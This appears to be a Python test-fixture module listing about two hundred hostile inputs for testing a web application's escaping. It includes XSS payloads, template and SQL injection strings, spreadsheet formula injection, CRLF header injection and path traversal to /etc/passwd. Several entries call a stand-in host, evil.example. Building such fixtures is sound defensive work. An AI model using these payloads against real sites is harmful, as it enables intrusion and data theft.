"""What callers, lists, carriers and colleagues may have written, at its worst. A script that runs sets `window.hacked`
or opens a dialog.

`FEW` are one of each kind, for tests that pay for each; `HOSTILE` are two hundred, for pages that show many at a time.
"""

from collections.abc import Iterator

RUN = "window.hacked=1"

FEW = [
    "<script>window.hacked=1</script>",
    '"><img src=x onerror="window.hacked=1">',
    "' onmouseover='window.hacked=1",
    "</time></li></ul><h1>owned</h1>",
    "<i id=beat data-at=0>",
    '<div hx-get="/admin/" hx-trigger="load">',
    '<div hx-swap-oob="innerHTML:body">gone</div>',
    "{{ 7|add:7 }}{% load static %}",
    "{0.__class__}",
    "\u202eevil\u202c",
    "javascript:alert(1)",
    "a\x00b\r\nSet-Cookie: x=1",
    "&lt;script&gt;",
    "=cmd|' /C calc'!A0",
    "😀" * 50,
    "x" * 5000,
]


def _scripts() -> Iterator[str]:
    """Script elements, bare and after whatever a page may have opened."""
    before = (
        "", '">', "'>", "-->", "]]>", "</script>", "</title>", "</textarea>", "</style>", "</noscript>", "</template>",
        "</select>", "</svg>", "<svg>", "<math>", "<!--",
    )  # fmt: skip
    yield from (f"{text}<script>{RUN}//</script>" for text in before[1:])
    yield f"<ScRiPt >{RUN}</sCrIpT >"
    yield f"<script type=module>{RUN}</script>"
    yield f"<script src=data:text/javascript,{RUN}></script>"
    yield "<script src=//evil.example/x.js></script>"
    yield f"<scr<script>ipt>{RUN}</script>"


def _handlers() -> Iterator[str]:
    """Elements that call a handler by themselves or when touched, inside text and out of either quote."""
    elements = (
        "img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "select autofocus onfocus",
        "details open ontoggle", "video src=x onerror", "audio src=x onerror", "iframe onload", "object data=x onerror",
        "marquee onstart", "p tabindex=0 autofocus onfocus", "a onmouseover", "div style=width:9em onpointerenter",
    )  # fmt: skip
    for quote in ("", '"', "'"):
        yield from (f"{quote}{'>' if quote else ''}<{element}={RUN}>" for element in elements)
    yield from (f"{quote} autofocus tabindex=0 onfocus={RUN} x={quote}" for quote in ('"', "'", "`"))


def _drawings() -> Iterator[str]:
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f'<svg><a xlink:href="javascript:{RUN}"><text y=20>here</text></a></svg>'
    yield f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN} />#x'>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>"
    yield "<svg><style>*{display:none!important}</style></svg>"


def _templates() -> Iterator[str]:
    """For whoever would fill a template a second time."""
    yield from (
        "{{ request.user.password }}", "{% include 'console/base.html' %}", "{% debug %}", "{# gone #}",
        "${window.hacked=1}", "{{constructor.constructor('window.hacked=1')()}}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]",
        "%(name)s %s %n %99999d", "{name} {number} {agent}", "{__import__('os')}", "`${window.hacked=1}`",
        "$(touch hacked)", "';window.hacked=1;//", "\\';window.hacked=1;//", "$& $1 $` \\1",
    )  # fmt: skip


def _letters() -> Iterator[str]:
    """Line and paragraph separators, marks that turn or hide text, other scripts."""
    yield from (
        f"one{sign}two" for sign in "\u2028\u2029\x85\u200b\u200d\u2060\ufeff\u00ad\u202a\u2066\u2067\u2068\ufff9"
    )
    yield "\u202e</tpircs>1=dekcah.wodniw<tpircs>"
    yield "\u2067\u202e\u2066" * 30 + "left open"
    yield "Z" + "\u0351\u0326\u0312" * 40 + "algo"
    yield "مرحبا بالعالم، اتصل بي غدا"
    yield "שלום <b>עולם</b> 123 abc"
    yield "\ufdfd" * 12
    yield "漢字かな" * 40
    yield "👩‍👩‍👧‍👦🏳️‍🌈🇺🇳" * 12
    yield "🅰️" * 60


def _controls() -> Iterator[str]:
    yield from (f"a{sign}b" for sign in "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x9b")
    yield "\x1b[31mred\x1b[2J"
    yield "line\nline\r\nline\ttab"
    yield "a\r\nLocation: //evil.example/\r\n\r\n<script>window.hacked=1</script>"


def _formulas() -> Iterator[str]:
    yield from (f"{start}1+1|' /C calc'!A0" for start in ("+", "-", "@", "\t=", "\r=", " =", "'=", '"='))
    yield '=HYPERLINK("//evil.example/","here")'


def _long() -> Iterator[str]:
    yield "W" * 3000
    yield "https://evil.example/" + "path/" * 200
    yield "\u00a0wide" * 100
    yield "ÄÖÜ" * 300
    yield "a-" * 500
    yield "_" * 200


def _json() -> Iterator[str]:
    """For whoever writes JSON into a page or a page into JSON."""
    yield from (
        "</script>", "<!--<script>", "]]>", '"}', '"});window.hacked=1;//', "\\", '\\"', "\\u003cscript\\u003e",
        '{"a":', "__proto__", "constructor", "hasOwnProperty", "null", "undefined", "NaN", "-0", "[object Object]",
        "true", "0",
    )  # fmt: skip


def _htmx() -> Iterator[str]:
    for asked in ("hx-post=/logout/", "hx-delete=/admin/", "hx-ws:connect=//evil.example/", "data-hx-get=/admin/"):
        yield f'" {asked} hx-trigger="load" x="'
    yield f'<div hx-on:click="{RUN}" hx-on::load="{RUN}">'
    yield f"<div hx-vals='js:{{a: {RUN}}}' hx-get=/healthz hx-trigger=load>"
    yield "<div hx-swap-oob='true' id=main>gone</div>"
    yield "<hx-partial hx-target=body>gone</hx-partial>"


def _addresses() -> Iterator[str]:
    yield from (
        f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f" javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
        f"data:text/html;base64,PHNjcmlwdD4=#{RUN}", f"vbscript:{RUN}", "//evil.example/", "../../../../etc/passwd",
        f"<a href=javascript:{RUN}>here</a>", f"[here](javascript:{RUN})", "<base href=//evil.example/>",
        f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">', "<form action=//evil.example/><button>Go",
        f'<iframe src="javascript:parent.{RUN}">', "file:///etc/passwd",
    )  # fmt: skip


def _names() -> Iterator[str]:
    """Elements that would take the name of something the page's scripts look up, styles, and half-done escapes."""
    yield from (
        "<form id=board name=floor>", "<img name=body id=words>", "<input name=attributes id=main>",
        "<style>*{display:none}", "</style><link rel=stylesheet href=//evil.example/x.css>",
        "<b style=position:fixed;inset:0;background:red>over", "&#60;script&#62;", "&amp;amp;lt;", "%3Cscript%3E",
        "\\x3cscript\\x3e", "+ADw-script+AD4-", "'\"`<>&;", "<", "<!--", "</body></html>", "<plaintext>",
        "<xmp><p>", "Robert'); DROP TABLE dialer_agent;--", "*/window.hacked=1/*",
    )  # fmt: skip


_KINDS = (
    _scripts, _handlers, _drawings, _templates, _letters, _controls, _formulas, _long, _json, _htmx, _addresses, _names,
)  # fmt: skip
HOSTILE = list(dict.fromkeys([*FEW, *(text for kind in _KINDS for text in kind())]))


def storable(text: str, size: int = 5000) -> str:
    """As a column of this size keeps it: PostgreSQL's text has no NUL."""
    return text.replace("\x00", "")[:size]
